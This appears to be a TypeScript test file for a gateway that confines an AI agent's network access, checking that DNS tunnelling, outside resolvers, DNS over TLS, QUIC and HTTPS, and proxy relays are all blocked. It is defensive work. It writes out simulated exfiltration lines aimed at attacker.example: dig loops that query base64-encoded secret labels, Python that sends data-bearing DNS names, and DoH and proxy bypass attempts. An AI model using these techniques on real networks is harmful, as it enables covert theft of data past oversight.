/** Ways out through DNS, and ways around the gateway: tunnels, other resolvers, DNS inside other protocols, proxies, relays (rows 9, 10, 22). */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { before, describe, test } from 'node:test';
import type { PolicyWords } from './agent-policy.ts';
import { hello } from './attacks/names.ts';
import { otherRoutes } from './attacks/routes.ts';
import { type AttemptWords, brief } from './attempts.ts';
import { assertWithinBudget } from './dns-budget.ts';
import { dnsQuestion, framed, replyHead } from './dns-question.ts';
import {
  type BypassSite,
  families,
  gatewayHost,
  judged,
  otherHost,
  type Try,
  toAttackers,
} from './gateway-bypass-site.ts';

const exact: PolicyWords = {
  web: { named: ['example.com'] },
  rules: ['web: [named], protocol: tcp, ports: [443]'],
};
const wildcard: PolicyWords = {
  web: { named: ['*.attacker.example'], exact: ['example.com'], other: ['*.registry.example'] },
  rules: ['web: [named, exact, other], protocol: tcp, ports: [80, 443]'],
};

const digits = 'abcdefghijklmnopqrstuvwxyz234567';
/** A label of 20 characters that carries 100 bits. */
const secret = (seed: number): string =>
  [...createHash('sha256').update(String(seed)).digest()]
    .slice(0, 20)
    .map((octet) => digits[octet & 31])
    .join('');

export const dnsRows = (at: () => BypassSite): void => {
  let site: BypassSite;
  before(() => {
    site = at();
  });
  const ask = (labels: readonly string[], host: string = gatewayHost[4]): AttemptWords => ({
    protocol: 'udp',
    host,
    port: 53,
    send: [dnsQuestion({ labels, edns: 1232 })],
  });

  /** Asks for names made of data, one after the other; the codes of the replies. */
  const codes = (from: number, count: number): Promise<readonly number[]> =>
    site.agent.run(
      `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
result = []
for question in args['questions']:
    s.sendto(bytes.fromhex(question), (args['to'], 53))
    result.append(s.recv(2000)[3] & 15)
    time.sleep(0.01)  # an agent may ask a hundred times a second
`,
      {
        to: gatewayHost[4],
        questions: Array.from({ length: count }, (_, i) =>
          Buffer.from(
            dnsQuestion({ labels: [secret(from + i), 'attacker', 'example'], edns: 1232 }),
            'latin1',
          ).toString('hex'),
        ),
      },
      60_000,
    );

  describe('row 9: tunnels', () => {
    test('a denied name is not asked for, whatever the way it is asked', async () => {
      await site.under(exact);
      const name = 'c2VjcmV0.attacker.example';
      const control = await site.watch();
      await site.lab.exec('host', ['dig', '+short', name]);
      assert.equal((await control.arrived('query')).length, 1);
      const since = await site.watch();
      const { stdout } = await site.exec([
        'sh',
        '-c',
        `for type in A AAAA TXT CNAME MX NULL HTTPS; do dig +short ${name} $type; dig +short +tcp ${name} $type; done
         getent ahosts ${name}; curl -sS http://${name}/`,
      ]);
      assert.equal(stdout, '');
      // Claimed at an address that is permitted for another name, too.
      await site.attempt([{ protocol: 'tcp', host: 'example.com', port: 443, send: [hello(name)], patience: 400 }]);
      assert.deepEqual((await since.reasons(({ kind }) => kind === 'dns')).toSorted(), [
        'dns-not-permitted',
        'dns-type',
      ]);
      const queries = brief(await since.arrived('query')).filter((line) => !/ example\.com A+$/.test(line));
      assert.deepEqual(queries, []);
    });

    test('names made of data: a bounded number of them, asked or claimed, and nobody else pays', async () => {
      await site.under(wildcard);
      const since = await site.watch();
      const zone = ['attacker', 'example'];
      const half = await codes(0, 60);
      assert.deepEqual([...new Set(half)], [0]);
      // A name that nobody asked for, to the address that the zone has.
      const fates = await site.agent.run<readonly string[]>(
        `
result = []
for hello in args['hellos']:
    try:
        s = dial('harmless.attacker.example', 443, socket.AF_INET)
        s.sendall(bytes.fromhex(hello))
        result.append(fate(s, 0.05)['end'])
        s.close()
    except OSError as e: result.append(type(e).__name__)
`,
        {
          hellos: Array.from({ length: 160 }, (_, i) =>
            Buffer.from(hello(`${secret(100 + i)}.attacker.example`), 'latin1').toString('hex'),
          ),
        },
        60_000,
      );
      if (site.mode !== 'own')
        assert.deepEqual([...new Set(fates)], ['reset'], 'each is another name than its address has');
      else {
        assert.ok(fates.slice(0, 20).includes('open'), 'while there is a budget, what is permitted goes through');
        assert.deepEqual([...new Set(fates.slice(-20))], ['reset']);
      }
      const rest = await codes(300, 180);
      // A shorter one may still fit what is left.
      assert.ok(
        rest.slice(-20).every((code) => code === 5),
        rest.join(),
      );
      const [named, other, again, long] = await site.attempt([
        ask(['example', 'com']),
        ask(['packages', 'registry', 'example']),
        ask([secret(0), ...zone]),
        ask(['x'.repeat(53), ...zone]),
      ]);
      assert.equal(replyHead(named!.received)?.rcode, 0, 'an exact name costs nothing');
      assert.equal(replyHead(other!.received)?.rcode, 0, 'another suffix has a budget of its own');
      assert.equal(replyHead(again!.received)?.rcode, 0, 'a name that was asked for says nothing new');
      assert.equal(replyHead(long!.received)?.rcode, 5);
      const asked = (await since.arrived('query')).flatMap((one) => (one.kind === 'query' ? [one.name] : []));
      assert.ok(asked.length > 60);
      assertWithinBudget(asked);
      const reasons = await since.reasons();
      assert.ok(reasons.includes('dns-budget'), reasons.join());
      if (site.mode === 'own') {
        const claims = (await since.records()).filter((one) => one.kind === 'flow' && one.reason === 'dns-budget');
        assert.ok(claims.length > 0, 'the same budget denies a claimed name');
      }
    });
  });

  describe('row 10: other servers and other protocols', () => {
    const hidden = 'ZXhmaWw.attacker.example';
    const servers = ['8.8.8.8', '2001:4860:4860::8888', '45.83.64.10', '2a0e:1d40::10'];

    test('uncontained, all of them get the question', async () => {
      const since = await site.watch();
      for (const server of servers) await site.lab.exec('host', ['dig', '+short', `@${server}`, hidden]);
      assert.equal(new Set((await since.arrived('query')).map(({ local }) => local.address)).size, 4);
    });

    for (const [rights, policy] of [
      ['no rule of theirs', exact],
      [
        'a rule that permits port 53 to anywhere',
        { ...exact, rules: [...exact.rules, 'to: [anywhere], protocol: any, ports: [53]'] },
      ],
    ] as const)
      test(`plain DNS to any server is answered here, under ${rights}`, async () => {
        await site.under(policy);
        const since = await site.watch();
        const made = await site.attempt(
          servers.flatMap((host) =>
            [hidden.split('.'), ['example', 'com']].flatMap((labels) => [
              ask(labels, host),
              { protocol: 'tcp', host, port: 53, send: [framed(dnsQuestion({ labels }))], patience: 150 } as const,
            ]),
          ),
        );
        for (const [i, { received }] of made.entries()) {
          const reply = replyHead(i % 2 === 1 ? received.slice(2) : received);
          assert.deepEqual([reply?.rcode, reply?.answers], i % 4 >= 2 ? [0, 1] : [5, 0], servers[i >> 2]);
        }
        assert.deepEqual(await since.wire(toAttackers), []);
        const asked = brief(await since.arrived('query')).filter(
          (line) => !/^resolver2?:53 query example\.com A$/.test(line),
        );
        assert.deepEqual(asked, []);
      });

    test('DNS over TLS, over QUIC, and over HTTPS, by name and by address', async () => {
      await site.under(exact);
      const since = await site.watch();
      await judged(
        site,
        servers.flatMap((host): Try[] => [
          { what: `DoT ${host}`, words: { protocol: 'tcp', host, port: 853, send: ['x'] }, verdict: 'no-rule' },
          { what: `DoQ ${host}`, words: { protocol: 'udp', host, port: 853, send: ['x'] }, verdict: 'no-rule' },
        ]),
      );
      const url = (host: string): string => `https://${host}/dns-query?dns=AAABAAABAAAAAAAABnNlY3JldA`;
      assert.equal((await site.curl('-k', url('dns.google'))).code, 6);
      for (const host of ['8.8.8.8', '[2001:4860:4860::8888]']) {
        const { code } = await site.curl('-k', '-m', '3', url(host));
        assert.notEqual(code, 0);
      }
      // In own mode, the name is what is dialled: the address of the other resolver is not.
      const borrowed = ['-m', '3', '--connect-to', 'example.com:443:8.8.8.8:443', 'https://example.com/dns-query'];
      const { stdout } = await site.curl(...borrowed);
      assert.equal(/"server":"web"/.test(stdout), site.mode === 'own', stdout);
      assert.equal((await site.curl('-m', '3', '--doh-url', 'https://8.8.8.8/dns-query', `http://${hidden}/`)).code, 6);
      assert.deepEqual(await since.wire(toAttackers), []);
    });

    test('records for HTTPS hold neither keys for encrypted hellos nor addresses', async () => {
      await site.under({ web: { named: ['svcb.example'] }, rules: ['web: [named], protocol: tcp, ports: [443]'] });
      const dig = ['dig', '+noall', '+answer', 'svcb.example', 'HTTPS'];
      const outside = await site.lab.exec('host', dig);
      assert.match(outside.stdout, /ech="?[\s\S]*|ipv4hint/, 'control');
      assert.match(outside.stdout, /ipv4hint=45\.83\.64\.10/, 'control');
      const { stdout } = await site.exec(dig);
      assert.match(stdout, /HTTPS.*alpn/);
      assert.doesNotMatch(stdout, /ech=|hint/);
    });
  });

  describe('row 22: another way', { concurrency: true }, () => {
    before(() => site.under(exact));
    test('no proxy, another proxy, another resolver', async () => {
      const since = await site.watch();
      const { stdout } = await site.exec(['sh', '-c', [...otherRoutes, 'wait'].join(' & ')]);
      assert.match(stdout, /^permitted$/m);
      const arrivals = await since.arrived('tls', 'request', 'query', 'bytes', 'datagram');
      for (const one of arrivals) {
        if (one.kind === 'tls') assert.equal(one.sni, 'example.com');
        else if (one.kind === 'query') assert.equal(one.name, 'example.com');
        else assert.equal(one.server, 'web');
      }
      assert.deepEqual(await since.wire(toAttackers), []);
      const reasons = await since.reasons();
      for (const reason of ['dns-not-permitted', 'no-rule']) assert.ok(reasons.includes(reason), reasons.join());
    });

    test('the host itself, its gateway addresses, and another agent as a relay', async () => {
      const since = await site.watch();
      await site.other.run(
        `recorders['relay'] = Recorder('0.0.0.0', 3128); recorders['relay6'] = Recorder('::', 3128)`,
      );
      await site.free.run(`recorders['host'] = Recorder('0.0.0.0', 9300); recorders['host6'] = Recorder('::', 9300)`);
      const hosts = [site.lab.host4, site.lab.host6, '10.11.2.1', 'fd11:2::1', ...families.map((f) => gatewayHost[f])];
      const tries = [
        ...[...hosts, ...families.map((f) => otherHost[f])].flatMap((host) =>
          [22, 3128, 9300, 15_001, 15_002].map(
            (port) =>
              ({
                protocol: 'tcp',
                host,
                port,
                send: ['CONNECT www.example.com:443 HTTP/1.1\r\n\r\n'],
                patience: 300,
              }) as const,
          ),
        ),
      ];
      for (const [i, { end, received }] of (await site.attempt(tries)).entries())
        assert.deepEqual([end, received], ['refused', ''], `${tries[i]!.host} ${tries[i]!.port}`);
      const at = `result = sum(len(one.seen()) for one in recorders.values())`;
      assert.equal(await site.other.run(at), 0);
      assert.equal(await site.free.run(at), 0);
      assert.deepEqual(await since.wire(toAttackers), []);
    });
  });
};
